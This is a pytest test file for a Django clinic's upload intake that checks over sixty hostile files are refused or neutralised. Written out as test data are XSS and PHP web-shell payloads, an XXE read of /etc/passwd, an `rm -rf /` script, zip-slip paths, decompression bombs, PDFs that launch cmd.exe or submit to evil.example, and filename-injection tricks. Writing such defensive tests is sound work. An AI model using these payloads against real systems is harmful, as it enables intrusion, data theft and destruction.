"""Files that mean harm: each is refused with a sentence, or kept as something that can do none.

They are made here, 60 and more, and each goes the way of every file: `take_in`, and for one of each kind the
page.
"""

import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from clinic.models import Refusal
from clinic.uploads import LARGEST_FILE
from records.documents.intake import take_in
from records.documents.models import HealthRecord, RecordFile
from tests.records.documents.factories import PDF, picture
from tests.scheduling.factories import PatientFactory, doctor_of

SCRIPT = b"<script>alert(1)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PNG, JPEG, WEBP = picture("PNG"), picture("JPEG"), picture("WEBP")
GIF = picture("GIF")
PAYLOAD = b"PAYLOAD" + SCRIPT


def chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, depth: int = 8, data: bytes = b"") -> bytes:
    """A PNG that says it has this size, whatever it holds."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 2, 0, 0, 0))
    body = chunk(b"IDAT", data or zlib.compress(b"\0" * 1000))
    return b"\x89PNG\r\n\x1a\n" + head + body + chunk(b"IEND", b"")


def with_chunk(kind: bytes, content: bytes) -> bytes:
    """The small PNG with one more chunk after its head."""
    return PNG[:33] + chunk(kind, content) + PNG[33:]


def jpeg_with(marker: int, content: bytes) -> bytes:
    """The small JPEG with one more segment after its start."""
    return JPEG[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(content) + 2) + content + JPEG[2:]


def zipped(name: str = "a.txt", content: bytes = b"x") -> bytes:
    """An archive."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return packed.getvalue()


def pdf_with(thing: bytes) -> bytes:
    """The small PDF with one more object."""
    return PDF.replace(b"trailer", b"2 0 obj\n<< " + thing + b" >>\nendobj\ntrailer")


def pdf_with_stream(thing: bytes, head: bytes = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") -> bytes:
    """The small PDF with a compressed stream that holds `thing`."""
    packed = zlib.compress(thing)
    stream = b"2 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (head, len(packed), packed)
    return PDF.replace(b"trailer", stream + b"trailer")


def animated(kind: str) -> bytes:
    """A moving picture."""
    drawn = io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in (10, 200)]
    frames[0].save(drawn, kind, save_all=True, append_images=frames[1:])
    return drawn.getvalue()


# What is never kept, whatever it is called.
REFUSED: dict[str, tuple[str, bytes]] = {
    # Not what they say they are
    "html": ("page.html", HTML),
    "html named jpg": ("photo.jpg", HTML),
    "html named pdf": ("letter.pdf", HTML),
    "html with a byte order mark": ("photo.png", b"\xef\xbb\xbf" + HTML),
    "html in UTF-16": ("photo.png", HTML.decode().encode("utf-16")),
    "html in UTF-7": ("photo.png", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "svg with script": ("drawing.svg", SVG),
    "svg named png": ("drawing.png", SVG),
    "svgz": ("drawing.svgz", zlib.compress(SVG)),
    "xml with an entity": ("data.xml", b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
    "billion laughs": ("data.xml", b'<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'),
    "script": ("photo.jpg.js", b"alert(1)"),
    "php behind a GIF's head": ("photo.gif", b"GIF89a<?php system($_GET['c']); ?>"),
    "php named jpg": ("photo.php.jpg", b"<?php system($_GET['c']); ?>"),
    "shell script": ("photo.jpg", b"#!/bin/sh\nrm -rf /\n"),
    "windows program": ("photo.jpg", b"MZ" + b"\0" * 200),
    "linux program": ("photo.jpg", b"\x7fELF" + b"\0" * 200),
    "java class": ("photo.jpg", b"\xca\xfe\xba\xbe" + b"\0" * 200),
    "macro document": ("letter.docm", zipped("word/vbaProject.bin", b"macro")),
    "old word document": ("letter.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "zip": ("files.zip", zipped()),
    "zip named pdf": ("letter.pdf", zipped()),
    "zip that climbs": ("files.zip", zipped("../../etc/cron.d/x")),
    "zip bomb": ("files.zip", zipped("zeros", b"\0" * 5_000_000)),
    "gzip bomb": ("files.gz", zlib.compress(b"\0" * 5_000_000)),
    "gif": ("photo.gif", GIF),
    "gif that is JavaScript": ("photo.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "bmp that is JavaScript": ("photo.bmp", b"BM/*" + b"\0" * 60 + b"*/=1;alert(1)"),
    "tiff": ("photo.tif", picture("TIFF")),
    "icon": ("photo.ico", picture("ICO")),
    "postscript": ("letter.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file"),
    "e-mail as html": ("letter.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML),
    "flash": ("film.swf", b"FWS\x09" + b"\0" * 100),
    "empty": ("photo.jpg", b""),
    "zeros": ("photo.jpg", b"\0" * 4096),
    "larger than permitted": ("photo.jpg", JPEG + b"\0" * LARGEST_FILE),
    # Pictures that are none, or too much of one
    "png of 50,000 x 50,000": ("scan.png", png_of(50_000, 50_000)),
    "png of 2 billion": ("scan.png", png_of(2**31 - 1, 2**31 - 1)),
    "png of nothing": ("scan.png", png_of(0, 0)),
    "png of 48 megapixels in 60 kB": ("scan.png", picture("PNG", (8000, 6000), "1")),
    "png, one line of a million": ("scan.png", picture("PNG", (1_000_000, 1), "1")),
    "png whose data ends": ("scan.png", png_of(500, 500)),
    "png cut short": ("scan.png", PNG[:-40]),
    "png with a wrong checksum": ("scan.png", PNG[:40] + b"\xff" + PNG[41:]),
    "png with a text bomb": ("scan.png", with_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"\0" * 80_000_000))),
    "png, only its head": ("scan.png", PNG[:33]),
    "jpeg cut short": ("photo.jpg", JPEG[: len(JPEG) // 2]),
    "jpeg, only its head": ("photo.jpg", JPEG[:20]),
    "jpeg of 65,000 x 65,000": (
        "photo.jpg",
        re.sub(rb"\xff\xc0\x00\x11\x08....", b"\xff\xc0\x00\x11\x08\xfd\xe8\xfd\xe8", JPEG, flags=re.DOTALL),
    ),
    "webp cut short": ("photo.webp", WEBP[: len(WEBP) // 2]),
    "webp that is only its head": ("photo.webp", b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 24),
    "moving png": ("photo.png", animated("PNG")),
    "moving webp": ("photo.webp", animated("WEBP")),
    # PDFs that are none, are locked, or do something by themselves
    "pdf cut short": ("letter.pdf", PDF[:40]),
    "pdf behind html": ("letter.pdf", HTML + PDF),
    "pdf behind a GIF's head": ("letter.pdf", b"GIF89a" + PDF),
    "pdf with a password": ("letter.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R /Root")),
    "pdf with JavaScript": ("letter.pdf", pdf_with(b"/S /JavaScript /JS (app.alert(1))")),
    "pdf with JavaScript, escaped": ("letter.pdf", pdf_with(b"/S /J#61va#53cript /JS (app.alert(1))")),
    "pdf with JavaScript, compressed": ("letter.pdf", pdf_with_stream(b"1 0 << /S /JavaScript >>")),
    "pdf with JavaScript, both": ("letter.pdf", pdf_with_stream(b"1 0 << /S /JavaScr#69pt >>")),
    "pdf that starts a program": ("letter.pdf", pdf_with(b"/S /Launch /F (cmd.exe)")),
    "pdf with a file in it": (
        "letter.pdf",
        pdf_with(b"/Type /Filespec /EF << /F 3 0 R >> /EmbeddedFiles 4 0 R"),
    ),
    "pdf that opens another": ("letter.pdf", pdf_with(b"/S /GoToE /T << /R /C >>")),
    "pdf that sends": ("letter.pdf", pdf_with(b"/S /SubmitForm /F (http://evil.example)")),
    "pdf that imports": ("letter.pdf", pdf_with(b"/S /ImportData /F (x.fdf)")),
    "pdf with an XFA form": ("letter.pdf", pdf_with(b"/AcroForm << /XFA [ 5 0 R ] >>")),
    "pdf with a film": ("letter.pdf", pdf_with(b"/Subtype /RichMedia")),
    "pdf that hides an object as a picture": (
        "letter.pdf",
        pdf_with_stream(b"\0" * 100_000 + b"<< /S /Launch >>", b"/Subtype /Image /Type /Obj#53tm"),
    ),
    "pdf of a million streams": ("letter.pdf", PDF.replace(b"trailer", b"stream\nx\n" * 30_000 + b"trailer")),
}

# What is kept, but as something else than it was meant to be: pixels, or a name that leads nowhere.
INERT: dict[str, tuple[str, bytes]] = {
    "png with html behind it": ("scan.png", PNG + PAYLOAD),
    "png with a script in its text": ("scan.png", with_chunk(b"tEXt", b"Comment\0" + PAYLOAD)),
    "png with a profile": ("scan.png", with_chunk(b"eXIf", b"MM\0*\0\0\0\x08\0\0" + PAYLOAD)),
    "png with a zip behind it": ("scan.png", PNG + zipped("PAYLOAD", b"PAYLOAD")),
    "jpeg with a script in its comment": ("photo.jpg", jpeg_with(0xFE, PAYLOAD)),
    "jpeg that is JavaScript": ("photo.jpg", jpeg_with(0xE0, b"/*PAYLOAD*/=1;alert(1)//")),
    "jpeg with XMP": ("photo.jpg", jpeg_with(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + PAYLOAD)),
    "jpeg with php behind it": ("photo.php", JPEG + b"<?php PAYLOAD ?>"),
    "jpeg with a whole pdf behind it": ("photo.jpg", JPEG + b"PAYLOAD" + PDF),
    "webp with more behind it": ("photo.webp", WEBP + PAYLOAD),
    "jpeg named exe": ("photo.jpg.exe", JPEG),
    "jpeg named html": ("photo.html", JPEG),
    "name that climbs": ("../../../../etc/passwd.png", PNG),
    "name that climbs in Windows": ("..\\..\\windows\\win.ini.png", PNG),
    "name of 300 letters": ("x" * 300 + ".png", PNG),
    "name with NUL": ("photo.php\0.png", PNG),
    "name that turns round": ("photo\u202egnp.exe", PNG),
    "name with a line break": ("a\r\nSet-Cookie: x=1.png", PNG),
    "name with quotes": ('a";filename="evil.html.png', PNG),
    "name that is a script": ("<img src=x onerror=alert(1)>.png", PNG),
    "name of a device": ("CON.png", PNG),
    "name of dots": ("....png", PNG),
    "hidden name": (".htaccess", PNG),
    "name without letters": ("\u200b\u200b.png", PNG),
    "name with a stream": ("photo.png::$DATA", PNG),
}
EXTENSION = re.compile(r"\.(pdf|png|jpg|webp)$")


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    """As it arrives, whatever Django would make of the name; the sender calls it a harmless picture."""
    file = SimpleUploadedFile("x", content, "image/png")
    file._name = name
    return file


def test_there_are_sixty_different_ones_and_more() -> None:
    distinct = set(REFUSED.values()) | set(INERT.values())
    assert len(distinct) == len(REFUSED) + len(INERT)
    assert len(distinct) >= 60


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_with_a_sentence(case: str) -> None:
    with pytest.raises(Refusal) as refusal:
        take_in(upload(*REFUSED[case]))
    assert refusal.value.field == "uploads"
    assert str(refusal.value.message).endswith(".")


@pytest.mark.parametrize("case", INERT)
def test_what_is_kept_is_inert(case: str) -> None:
    taken = take_in(upload(*INERT[case]))
    assert b"PAYLOAD" not in taken.content
    assert SCRIPT not in taken.content
    assert taken.media_type in ("image/png", "image/jpeg", "image/webp")
    assert EXTENSION.search(taken.name)
    assert len(taken.name) <= 130
    assert not re.search(r'[/\\"<>:\x00-\x1f\u200b\u202e]', taken.name)
    assert not taken.name.startswith(".")


def test_the_harmless_ones_beside_them_are_kept() -> None:
    """So that the refusals above are not because everything is refused."""
    for content, kind in ((PDF, "application/pdf"), (PNG, "image/png"), (JPEG, "image/jpeg")):
        assert take_in(upload("scan", content)).media_type == kind
    assert take_in(upload("a.pdf", pdf_with(b"/S /URI /URI (https://example.org)"))).name == "a.pdf"
    text = pdf_with_stream(b"BT (About JavaScript) Tj ET", b"/Filter /FlateDecode")
    assert take_in(upload("Lab 12.05.2026.pdf", text)).name == "Lab 12.05.2026.pdf"


@pytest.mark.django_db
def test_the_page_refuses_them_and_keeps_nothing_behind(
    client_for: Callable[..., Any], own_folder: Any
) -> None:
    patient = PatientFactory()
    browser = client_for(doctor_of(patient).member)
    page = reverse("documents:add_record", args=[patient.pk])
    typed = {"kind": "x_ray", "title": "Left hand", "recorded_on": timezone.localdate().isoformat()}
    rows = {"values-TOTAL_FORMS": "0", "values-INITIAL_FORMS": "0"}
    for case in ("svg with script", "html named jpg", "pdf with JavaScript", "png of 50,000 x 50,000"):
        # After a good one, which is written and then taken back.
        files = [upload("good.png", PNG), SimpleUploadedFile(*REFUSED[case])]
        answer = browser.send(page, {**typed, **rows, "uploads": files})
        assert answer.status_code == 200
        assert "uploads" in answer.context["form"].errors
        assert "Left hand" in answer.content.decode()
    assert not HealthRecord.objects.exists()
    assert not [path for path in own_folder.rglob("*") if path.is_file()]
    kept = browser.send(page, {**typed, **rows, "uploads": [SimpleUploadedFile(*INERT["jpeg named html"])]})
    assert kept.status_code == 302
    given = browser.get(reverse("documents:record_file", args=[RecordFile.objects.get().pk]))
    assert given["Content-Type"] == "image/jpeg"
    assert given["Content-Disposition"] == 'attachment; filename="photo.jpg"'
    assert given["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in given["Content-Security-Policy"]
